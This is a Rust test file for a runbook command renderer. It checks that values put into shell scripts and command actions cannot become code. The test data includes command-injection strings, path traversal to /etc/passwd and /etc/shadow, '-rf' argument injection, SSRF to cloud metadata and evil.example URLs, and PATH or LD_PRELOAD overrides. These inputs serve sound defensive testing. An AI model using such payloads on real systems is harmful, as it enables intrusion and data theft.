#![allow(clippy::unwrap_used, clippy::panic, reason = "a failed test panics")]

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::{Command, Stdio};

use proptest::prelude::*;
use serde_json::{Value, json};

use crate::action::{ActionSpec, COMMAND_ACTION, Effect, Sink};
use crate::commands::{check, render};
use crate::model::CommandSpec;
use crate::template::{RenderError, Scope, render_parameters};

/// Validation and rendering ask the same question, so both answers are looked at.
fn refused(line: &str, value: &str) -> (Vec<String>, bool) {
    let variables: BTreeSet<String> = ["x".to_owned()].into();
    let root = json!({ "Vars": { "x": value } });
    let entries = [CommandSpec::Script(line.to_owned())];
    let found = check(&entries, &variables).into_iter().map(|problem| {
        assert!(problem.fatal, "{line}: a value that may become code keeps a runbook from running");
        problem.message
    });
    let rendered = render(&entries, &Scope { root: &root, variables: &variables });
    let at_run_time = match rendered {
        Ok(_) => false,
        Err(RenderError::Refused { .. }) => true,
        Err(other) => panic!("{line}: {other}"),
    };
    (found.collect(), at_run_time)
}

/// Scripts in which a value could become a command, a program, an expression or the name of something, by how.
const CODE: &str = include_str!("../../../tests/commands/code.json");
/// Commands as people write them in runbooks.
const DATA: &str = include_str!("../../../tests/commands/data.json");

fn cases(text: &str) -> Vec<String> {
    let groups: BTreeMap<String, Vec<String>> = serde_json::from_str(text).unwrap();
    groups.into_values().flatten().collect()
}

#[test]
fn a_value_that_may_become_code_is_refused_by_validation_and_by_rendering_alike() {
    let mut wrong = Vec::new();
    for line in cases(CODE) {
        let (found, at_run_time) = refused(&line, "a");
        if found.is_empty() || !at_run_time {
            wrong.push(format!("{line:?}: {found:?}, at run time: {at_run_time}"));
        }
    }
    assert!(wrong.is_empty(), "accepted, though a value can become code:\n{}", wrong.join("\n"));
}

#[test]
fn a_value_that_stays_data_is_accepted() {
    let mut wrong = Vec::new();
    for line in cases(DATA) {
        let (found, at_run_time) = refused(&line, "a");
        if !found.is_empty() || at_run_time {
            wrong.push(format!("{line:?}: {found:?}, at run time: {at_run_time}"));
        }
    }
    assert!(wrong.is_empty(), "refused, though the value stays data:\n{}", wrong.join("\n"));
}

proptest! {
    #[test]
    fn no_script_makes_the_analysis_panic_or_hang(text in "[ -~\n]{0,200}") {
        let line = format!("{text}{{x}}");
        let variables: BTreeSet<String> = ["x".to_owned()].into();
        check(&[CommandSpec::Script(line)], &variables);
    }

    #[test]
    fn no_pieces_of_shell_make_the_analysis_panic_or_hang(pieces in prop::collection::vec(
        prop::sample::select(vec![
            "{x}", " ", "\n", ";", "|", "&&", "(", ")", "{ ", " }", "$(", "`", "\"", "'", "\\", "$X", "${X", "}", "$((", "))",
            "<<EOF\n", "EOF\n", "if ", "then ", "fi", "for i in ", "do ", "done", "case ", "esac", " in ", "sh -c ", "eval ",
            "f() ", "X=", ">", "<", "xargs ", "sudo ", "find . -exec ", "trap ", "((", "[[ ", "]]", "#", ";;", "-c ",
        ]), 0..60,
    )) {
        let variables: BTreeSet<String> = ["x".to_owned()].into();
        check(&[CommandSpec::Script(pieces.concat())], &variables);
    }
}

#[test]
fn scripts_that_nest_or_repeat_without_end_are_answered_soon() {
    for line in [
        format!("{}echo {{x}}{}", "$(".repeat(5000), ")".repeat(5000)),
        format!("{}{{x}}", "sudo ".repeat(20_000)),
        format!("{}{{x}}", "env -S ".repeat(20_000)),
        format!("echo {{x}} {}", "| xargs ".repeat(5000)),
        (1..3000).rev().fold("X0={x}\n".to_owned(), |text, n| format!("{text}X{n}=$X{}\n", n - 1)),
        "X={x}; f() { f \"$1\"; }; f \"$X\"; ".repeat(400),
        format!("{}{{x}}{}", "if true; then ".repeat(3000), "; fi".repeat(3000)),
        format!("echo {}", "{x} ".repeat(3000)),
        format!("unknown {}{{x}}", "sh -c a ".repeat(2000)),
        format!("{}{{x}}", "> \"$(echo ".repeat(20)),
    ] {
        let variables: BTreeSet<String> = ["x".to_owned()].into();
        let start = line.get(..40).unwrap_or(&line).to_owned();
        let began = std::time::Instant::now();
        check(&[CommandSpec::Script(line)], &variables);
        assert!(began.elapsed().as_secs() < 20, "{start}: {:?}", began.elapsed());
    }
}

/// Real tools that change nothing but what they are told to; everything else is not found.
const TOOLS: [&str; 22] = [
    "sh", "bash", "env", "timeout", "nice", "nohup", "xargs", "cat", "head", "tail", "grep", "wc", "sort", "uniq",
    "tr", "basename", "date", "true", "touch", "tee", "awk", "sed",
];
/// Tools that print what they are given.
const SPEAKING: [&str; 8] = ["kubectl", "docker", "ssh", "sudo", "curl", "psql", "redis-cli", "python3"];

fn tools(folder: &Path) {
    use std::os::unix::fs::{PermissionsExt, symlink};
    std::fs::create_dir_all(folder).unwrap();
    for tool in TOOLS {
        let real = ["/bin", "/usr/bin"].map(|directory| Path::new(directory).join(tool));
        if let Some(real) = real.iter().find(|real| real.exists()) {
            symlink(real, folder.join(tool)).unwrap();
        }
    }
    for tool in SPEAKING {
        let file = folder.join(tool);
        std::fs::write(&file, "#!/bin/sh\nprintf '%s\\n' \"$@\"\n").unwrap();
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

#[test]
fn nothing_that_is_accepted_executes_a_value_in_any_shell() {
    let directory = std::env::temp_dir().join(format!("belay-flow-{}", std::process::id()));
    let path = directory.join("bin");
    tools(&path);
    let canary = directory.join("canary").display().to_string();
    let values = [
        "$(touch CANARY)",
        "`touch CANARY`",
        "; touch CANARY #",
        "'; touch CANARY; '",
        "\"; touch CANARY; \"",
        "\ntouch CANARY\n",
        "a[$(touch CANARY)]",
        "x | touch CANARY",
        "touch CANARY",
    ];
    let variables: BTreeSet<String> = ["x".to_owned()].into();
    let mut ran = 0;
    // Files outside the folder are left alone, and nothing waits for an answer that never comes.
    let alone = |line: &String| {
        !["/tmp", "/backup", "while !", "until", "backup.sql", "&\n", "kill"].iter().any(|part| line.contains(part))
    };
    for line in cases(DATA).iter().filter(|line| alone(line)) {
        for value in values {
            let root = json!({ "Vars": { "x": value.replace("CANARY", &canary) } });
            let scope = Scope { root: &root, variables: &variables };
            let Ok(acts) = render(&[CommandSpec::Script(line.clone())], &scope) else { continue };
            for shell in ["/bin/sh", "/bin/bash"].iter().filter(|shell| Path::new(shell).exists()) {
                let mut command = Command::new(shell);
                command.arg("-c").arg(acts[0].parameters["script"].as_str().unwrap()).env_clear();
                for (name, value) in acts[0].parameters["env"].as_object().unwrap() {
                    command.env(name, value.as_str().unwrap());
                }
                command.env("PATH", &path).current_dir(&directory).stdin(Stdio::null());
                command.output().unwrap();
                assert!(!Path::new(&canary).exists(), "{shell}: {line:?} executed {value:?}");
                ran += 1;
            }
        }
    }
    std::fs::remove_dir_all(&directory).unwrap();
    assert!(ran > 500, "most of the commands take such values: {ran}");
}

/// Renders a script over a variable and an alert's label; whether it is refused.
fn refuses(line: &str, value: &str) -> bool {
    let variables: BTreeSet<String> = ["x".to_owned()].into();
    let root = json!({ "Vars": { "x": value }, "Alert": { "labels": { "pod": value } } });
    let scope = Scope { root: &root, variables: &variables };
    match render(&[CommandSpec::Script(line.to_owned())], &scope) {
        Ok(_) => false,
        Err(RenderError::Refused { .. }) => true,
        Err(other) => panic!("{line}: {other}"),
    }
}

#[test]
fn a_value_answers_for_every_place_that_it_reaches_when_it_is_known() {
    for (line, good, bad) in [
        ("X={x}; rm \"$X\"", "a", "-rf"),
        ("X={x}; Y=$X; rm -f \"$Y\"", "a", "--no-preserve-root"),
        ("f() { rm \"$1\"; }; f \"a$X\" {x}", "a", "-rf"),
        ("set -- {x}; rm \"$@\"", "a", "-rf"),
        ("for i in {x}; do rm \"$i\"; done", "a", "-rf"),
        ("sh -c 'rm \"$1\"' _ {x}", "a", "-rf"),
        ("X={x}; ls $X", "a", "a b"),
        ("X={x}; ls a$X", "a", "*"),
        ("X={x}; kubectl -n $X get pods", "shop", "shop --kubeconfig=/tmp/evil"),
        ("X={x}; ls $X", "a", "-rf"),
        ("X={x}; for i in $X; do ls \"$i\"; done", "a", "a -rf"),
        ("set -- {x}; ls $1", "a", "a -rf"),
        ("set -- {x}; ls $@", "a", "a\t-rf"),
        ("X={x}; export Y=$X", "a", "a PATH=/evil"),
        ("X={x}; rm $X a", "b", ""),
        ("echo a > {x}", "log", "../log"),
        ("echo a > {x}", "log/a", "/etc/passwd"),
        ("echo a > /tmp/{x}", "log", "../etc/passwd"),
        ("echo a > /tmp/{x}", "log", "a/../../etc/passwd"),
        ("echo a >> \"/tmp/{x}.log\"", "log", ".."),
        ("cat < /tmp/{x}", "log", "../etc/shadow"),
        ("X={x}; echo a > \"/tmp/$X\"", "log", "../etc/passwd"),
        ("f() { cat > \"/tmp/$1\"; }; f {x}", "log", "../etc/passwd"),
        ("echo a > /tmp/{{ .Alert.labels.pod }}", "log", "a/b"),
        ("X={x}; curl -d \"$X\" https://example.com", "a", "@/etc/passwd"),
        ("X={x}; curl \"$X\"", "shop:8080/health", "http://169.254.169.254/latest"),
        ("curl {x}:8080", "shop", "127.0.0.1"),
        ("curl -sf {x}", "https://shop/a", "file:///etc/passwd"),
        ("curl {{ .Alert.labels.pod }}:80/health", "shop", "http://evil.example"),
        ("wget -q {x}", "shop/a", "169.254.169.254"),
        ("kubectl apply -f {x}", "a.yaml", "https://evil.example/a.yaml"),
    ] {
        assert!(!refuses(line, good), "{line} takes {good:?}");
        assert!(refuses(line, bad), "{line} does not take {bad:?}");
    }
}

/// `command.run` as the registry declares it.
fn command_run() -> ActionSpec {
    ActionSpec {
        name: COMMAND_ACTION.to_owned(),
        description: String::new(),
        parameters: json!({}),
        output: json!({}),
        sinks: [("argv", Sink::Argument), ("script", Sink::Shell), ("env", Sink::Text)]
            .map(|(name, sink)| (name.to_owned(), sink))
            .into(),
        effect: Effect::Mutate,
        idempotent: false,
        captures_undo: false,
        published: Vec::new(),
        facts: Vec::new(),
        target_parameter: None,
        kinds: Vec::new(),
        access: Vec::new(),
        available: true,
    }
}

#[test]
fn a_call_of_the_command_action_is_asked_the_same_its_environment_included() {
    let value = "{{ .Vars.x }}";
    let variables = BTreeSet::new();
    let root = json!({ "Vars": { "x": "a" } });
    let scope = Scope { root: &root, variables: &variables };
    let rendered = |parameters: &Value| render_parameters(parameters, &command_run(), &scope);
    for parameters in [
        json!({ "script": "eval \"$X\"", "env": { "X": value } }),
        json!({ "script": "echo \"$X\" | sh", "env": { "X": value } }),
        json!({ "script": "ls $X", "env": { "X": "a {{ .Vars.x }}" } }),
        json!({ "script": "rm \"$X\"", "env": { "X": "-{{ .Vars.x }}" } }),
        json!({ "script": "echo a > \"$X\"", "env": { "X": "../{{ .Vars.x }}" } }),
        json!({ "script": "true", "env": { "PATH": value } }),
        json!({ "script": "eval {{ .Vars.x }}" }),
        json!({ "argv": ["sh", "-c", "eval \"$X\""], "env": { "X": value } }),
        json!({ "argv": ["sh", "-c", value] }),
        json!({ "argv": ["sudo", value] }),
        json!({ "argv": [value, "a"] }),
        json!({ "argv": ["ls"], "env": { "LD_PRELOAD": value } }),
    ] {
        let refused = rendered(&parameters);
        assert!(matches!(refused, Err(RenderError::Refused { .. })), "{parameters}: {refused:?}");
    }
    for parameters in [
        json!({ "script": "ls \"$X\"", "env": { "X": value } }),
        json!({ "script": "ls {{ .Vars.x }} \"$X\"", "env": { "X": value, "Y": "constant" } }),
        json!({ "script": "eval \"$X\"", "env": { "X": "ls" } }),
        json!({ "argv": ["kubectl", "get", "pod", value], "env": { "KUBECONFIG": value } }),
        json!({ "argv": ["sh", "-c", "ls \"$1\" \"$X\"", "_", value], "env": { "X": value } }),
    ] {
        assert!(rendered(&parameters).is_ok(), "{parameters}: {:?}", rendered(&parameters));
    }
}
